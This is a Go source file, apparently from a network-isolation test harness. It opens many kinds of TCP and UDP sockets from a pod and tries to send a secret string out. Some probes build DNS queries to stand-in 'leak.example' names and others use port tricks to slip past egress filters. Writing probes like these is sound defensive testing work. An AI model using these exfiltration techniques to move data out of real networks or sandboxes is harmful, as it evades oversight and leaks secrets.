package attack

import (
	"errors"
	"net/netip"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// prepare does something to a socket before it is used.
type prepare func(fd int, a Aim) error

// shape is a socket and what to do with it.
type shape struct {
	kind, protocol int
	to             func(a Aim) netip.AddrPort
	prepare        prepare
	payload        string
}

func port(n uint16) func(a Aim) netip.AddrPort { return func(a Aim) netip.AddrPort { return a.far(n) } }

func near(n uint16) func(a Aim) netip.AddrPort {
	return func(a Aim) netip.AddrPort { return netip.AddrPortFrom(a.Near, n) }
}

func open(a Aim) netip.AddrPort { return a.Open }

// sockets are what any program can do.
func sockets() []Probe {
	quic := "\xc3\x00\x00\x00\x01\x08abcdefgh\x00\x00\x44\x9e" + strings.Repeat(Secret, 40)
	return each(None, "%s", []named[shape]{
		{"TCP, as anybody", shape{kind: unix.SOCK_STREAM, to: open}},
		{"TCP to port 53", shape{kind: unix.SOCK_STREAM, to: port(53), payload: "\x00\x20" + question("tcp.leak.example", 16)}},
		{"TCP to the next hop", shape{kind: unix.SOCK_STREAM, to: func(a Aim) netip.AddrPort { return near(a.Door)(a) }}},
		{"TCP, multipath", shape{kind: unix.SOCK_STREAM, protocol: unix.IPPROTO_MPTCP, to: open}},
		{"UDP", shape{kind: unix.SOCK_DGRAM, to: port(9)}},
		{"UDP to the next hop", shape{kind: unix.SOCK_DGRAM, to: near(9)}},
		{"UDP to port 443, like QUIC", shape{kind: unix.SOCK_DGRAM, to: port(443), payload: quic}},
		{"UDP from port 53", shape{kind: unix.SOCK_DGRAM, to: port(4000), prepare: from(53)}},
		{"UDP, empty", shape{kind: unix.SOCK_DGRAM, to: port(10), payload: "\x00"[:0]}},
		{"UDP of 4,000 bytes", shape{kind: unix.SOCK_DGRAM, to: port(11), payload: strings.Repeat(Secret, 211)}},
		{"UDP of 65,000 bytes", shape{kind: unix.SOCK_DGRAM, to: port(12), payload: strings.Repeat(Secret, 3421)}},
		{"UDP to port 53, a resolver of its own", shape{kind: unix.SOCK_DGRAM, to: port(53), payload: question("data-in-a-name.leak.example", 1)}},
		{"UDP to port 53, TXT", shape{kind: unix.SOCK_DGRAM, to: port(53), payload: question("txt.leak.example", 16)}},
		{"UDP to port 53, no DNS at all", shape{kind: unix.SOCK_DGRAM, to: port(53), payload: strings.Repeat(Secret, 20)}},
		{"UDP to port 53 of the next hop", shape{kind: unix.SOCK_DGRAM, to: near(53), payload: question("near.leak.example", 1)}},
		{"UDP to port 53, bound to the interface", shape{kind: unix.SOCK_DGRAM, to: port(53), prepare: toInterface, payload: question("bound.leak.example", 1)}},
		{"UDP to port 5353", shape{kind: unix.SOCK_DGRAM, to: port(5353)}},
		{"UDP to port 853", shape{kind: unix.SOCK_DGRAM, to: port(853)}},
		{"TCP, bound to the interface", shape{kind: unix.SOCK_STREAM, to: open, prepare: toInterface}},
		{"UDP, bound to the interface", shape{kind: unix.SOCK_DGRAM, to: port(9), prepare: toInterface}},
	}, use)
}

// unknown is the beginning of no protocol that a proxy knows: it need not wait for more to see that.
const unknown = "\x00\x01\x02\x03\x04\x05\x06\x07"

// use opens the socket, connects and says the secret.
func use(a Aim, s shape) error {
	family := unix.AF_INET
	if a.v6() {
		family = unix.AF_INET6
	}
	fd, err := unix.Socket(family, s.kind|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, s.protocol)
	if err != nil {
		return os.NewSyscallError("socket", err)
	}
	defer unix.Close(fd)
	var prepared error
	if s.prepare != nil {
		prepared = s.prepare(fd, a) // try anyway
	}
	if err := connect(fd, sockaddr(s.to(a))); err != nil {
		return errors.Join(prepared, err)
	}
	if s.payload == "" {
		s.payload = unknown + Secret
	}
	return errors.Join(prepared, say(fd, s.payload))
}

// connect waits for the answer to a SYN as long as an answer takes.
func connect(fd int, to unix.Sockaddr) error {
	err := unix.Connect(fd, to)
	if errors.Is(err, unix.EINPROGRESS) {
		if err = await(fd, unix.POLLOUT); err == nil {
			var code int
			if code, err = unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_ERROR); err == nil && code != 0 {
				err = unix.Errno(code)
			}
		}
	}
	return os.NewSyscallError("connect", err)
}

// await waits for an event, at most as long as patience lasts.
func await(fd int, event int16) error {
	_, err := unix.Poll([]unix.PollFd{{Fd: int32(fd), Events: event}}, int(patience.Milliseconds())) //nolint:gosec // a file's number
	return os.NewSyscallError("poll", err)
}

// say sends and waits for an answer, which nobody has to give.
func say(fd int, text string) error {
	if err := unix.Send(fd, []byte(text), unix.MSG_NOSIGNAL); err != nil {
		return os.NewSyscallError("send", err)
	}
	if err := await(fd, unix.POLLIN); err != nil {
		return err
	}
	n, err := unix.Read(fd, make([]byte, 2048))
	if err != nil {
		return os.NewSyscallError("read", err)
	}
	time.Sleep(patience / 10) // the connection is to be seen while it lives
	return answeredError(n)
}

type answeredError int

func (n answeredError) Error() string { return "answered" }

func from(port uint16) prepare {
	return func(fd int, a Aim) error { return bind(fd, netip.AddrPortFrom(a.Pod, port)) }
}

func bind(fd int, at netip.AddrPort) error {
	return os.NewSyscallError("bind", unix.Bind(fd, sockaddr(at)))
}

func toInterface(fd int, _ Aim) error {
	return os.NewSyscallError("SO_BINDTODEVICE", unix.BindToDevice(fd, device))
}

// device is the interface of every pod.
const device = "eth0"

// question asks for a name.
func question(name string, kind byte) string {
	b := "\x13\x03\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
	for label := range strings.SplitSeq(name, ".") {
		b += string([]byte{byte(len(label))}) + label //nolint:gosec // a label has 63 bytes at most
	}
	return b + "\x00\x00" + string([]byte{kind}) + "\x00\x01"
}
